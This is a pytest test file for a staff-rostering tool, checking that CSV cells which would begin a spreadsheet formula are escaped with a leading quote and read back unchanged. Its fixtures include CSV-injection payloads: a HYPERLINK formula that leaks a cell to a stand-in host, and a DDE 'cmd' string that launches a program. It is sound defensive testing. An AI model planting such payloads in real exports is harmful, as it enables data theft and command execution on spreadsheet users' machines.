"""Text cells of every CSV file roster writes are safe to open in a spreadsheet: one that
would begin a formula (`=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
single quote before it, as OWASP advises; numbers are written as they are. Reading our
own files back (OutputData.load, `roster verify`, `roster export`, history from a roster
folder, the service's tables) gives the text as it was, and an ordinary roster.csv is
byte for byte what it always was.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from models import read_roster_csv
from models.cells import from_cell, safe_row, to_cell
from models.roster import ROSTER_COLUMNS, sort_key
from scheduler.cli import main
from scheduler.outputs.cells import restored_frame, safe_frame
from scheduler.outputs.exports import OutputData
from scheduler.service.api import csv_rows
from scheduler.whatif import ScenarioRow, Sweep, write_sweep
from tests.helpers import MONDAY

NAMES = {
    "ana": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "ben": "+1+2",
    "cy": "@SUM(1,2)",
    "dee": "-2+3",
    "gus": "'=quoted already",
    "hal": "Hal O'Neill",
}
"""Names that a spreadsheet would take for formulas, and one it would not (a name's
leading tab or carriage return is trimmed when the instance is read)."""
ORDINARY = {"hal"}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        # a text that begins with quotes before a formula keeps them all, plus one
        ("'=1", "''=1"),
        ("''+1", "'''+1"),
        # nothing a spreadsheet evaluates: as it is
        ("Ana", "Ana"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_text_cell_is_quoted_only_when_it_would_begin_a_formula_and_reads_back(
    text: str, cell: str
) -> None:
    assert to_cell(text) == cell
    assert from_cell(cell) == text


def test_numbers_are_left_alone_in_rows_and_tables() -> None:
    assert safe_row({"name": "-3", "delta": -3, "share": -0.5, "none": None}) == {
        "name": "'-3",  # text that would be read as a formula is quoted
        "delta": -3,
        "share": -0.5,
        "none": None,
    }
    table = pd.DataFrame({"name": ["=1+1", "Ana"], "short": [-3, 2], "gap": [-0.25, 0.5]})
    written = safe_frame(table).to_csv(index=False)
    assert written.splitlines() == ["name,short,gap", "'=1+1,-3,-0.25", "Ana,2,0.5"]
    read = restored_frame(pd.read_csv(io.StringIO(written)))
    assert read["name"].tolist() == ["=1+1", "Ana"] and read["short"].tolist() == [-3, 2]


def _week(tmp_path: Path, start: str = MONDAY, name: str = "week.yaml") -> Path:
    people = [
        {"id": pid, "name": shown, "roles": ["agent"], "skills": {"general": 1}}
        for pid, shown in NAMES.items()
    ]
    data = {
        "name": "formulas",
        "horizon": {"start": start, "days": 1},
        "skills": ["general"],
        "shifts": [{"id": "day", "start": "09:00", "hours": 8}],
        "queues": [{"id": "general", "skill": "general"}],
        "demand": [{"queue": "general", "shift": "day", "agents": len(people)}],
        "people": people,
    }
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.fixture
def solved(tmp_path: Path) -> Path:
    """The week solved by the CLI: everyone works the one shift."""
    out = tmp_path / "out"
    argv = ["solve", str(_week(tmp_path)), "--out", str(out), "--workers", "1"]
    assert main([*argv, "--seed", "0", "--time-limit", "10", "--quiet"]) == 0
    return out


def _cells(path: Path, column: str) -> dict[str, str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return {row["person"]: row[column] for row in csv.DictReader(handle)}


def test_roster_and_people_csv_quote_names_that_would_be_formulas(solved: Path) -> None:
    for name in ("roster.csv", "people.csv"):
        cells = _cells(solved / name, "name")
        for person, shown in NAMES.items():
            expected = shown if person in ORDINARY else "'" + shown
            assert cells[person] == expected, (name, person)
    # numbers stay numbers
    assert set(_cells(solved / "roster.csv", "hours").values()) == {"8.00"}
    assert set(_cells(solved / "people.csv", "hours").values()) == {"8.0"}


def test_our_own_csv_files_read_back_as_the_text_written(solved: Path, tmp_path: Path) -> None:
    data = OutputData.load(solved)
    assert {r.person: r.name for r in data.roster} == NAMES
    assert dict(zip(data.people["person"], data.people["name"], strict=True)) == NAMES
    # the service's tables of a result's files
    rows = csv_rows((solved / "roster.csv").read_bytes())
    assert {r["person"]: r["name"] for r in rows} == NAMES
    # roster verify reads the roster back and finds every rule kept
    assert main(["verify", str(_week(tmp_path)), str(solved)]) == 0
    # roster export: the spreadsheet holds the names, not the quoted cells
    assert main(["export", str(solved)]) == 0
    book = openpyxl.load_workbook(solved / "roster.xlsx")
    shown = {c.value for row in book["People"].iter_rows() for c in row}
    assert set(NAMES.values()) <= shown
    assert not any(str(v).startswith("'") and v != NAMES["gus"] for v in shown)


def test_history_from_a_roster_folder_reads_the_names_back(
    solved: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert {r.person: r.name for r in read_roster_csv(solved)} == NAMES
    # the next day, with the history of this one: the roster read back is accepted
    after = _week(tmp_path, start="2026-12-01", name="next.yaml")
    out = tmp_path / "next"
    argv = ["solve", str(after), "--out", str(out), "--history", str(solved), "--workers", "1"]
    assert main([*argv, "--seed", "0", "--time-limit", "10", "--quiet"]) == 0
    assert "from " + str(solved) + " for 6 people" in capsys.readouterr().err
    assert {r.person: r.name for r in read_roster_csv(out)} == NAMES


def test_an_ordinary_roster_csv_is_written_as_it_always_was(tmp_path: Path) -> None:
    out = tmp_path / "out"
    demo = Path(__file__).resolve().parents[2] / "instances" / "demo-week.yaml"
    argv = ["solve", str(demo), "--out", str(out), "--workers", "1", "--seed", "0"]
    assert main([*argv, "--deterministic-time", "0.5", "--quiet", "--no-exports"]) == 0
    rows = read_roster_csv(out)
    plain = io.StringIO(newline="")
    writer = csv.DictWriter(plain, fieldnames=ROSTER_COLUMNS)
    writer.writeheader()
    writer.writerows(r.as_row() for r in sorted(rows, key=sort_key))
    assert (out / "roster.csv").read_bytes() == plain.getvalue().encode()


def test_whatif_csv_quotes_scenario_names_and_errors_not_numbers(tmp_path: Path) -> None:
    rows = [
        ScenarioRow("=cmd|' /C calc'!A0", "fits", objective=-3.5, gap=0.0),
        ScenarioRow("+broken", "error", error="-remove_people: no person 'zed'"),
    ]
    write_sweep(tmp_path / "sweep", Sweep(rows, 1.0, "sequential", 1), {})
    written = (tmp_path / "sweep" / "whatif.csv").read_bytes()
    cells = list(csv.DictReader(io.StringIO(written.decode())))
    assert [c["scenario"] for c in cells] == ["'=cmd|' /C calc'!A0", "'+broken"]
    assert cells[0]["objective"] == "-3.5" and cells[1]["error"].startswith("'-remove")
    assert [r["scenario"] for r in csv_rows(written)] == ["=cmd|' /C calc'!A0", "+broken"]
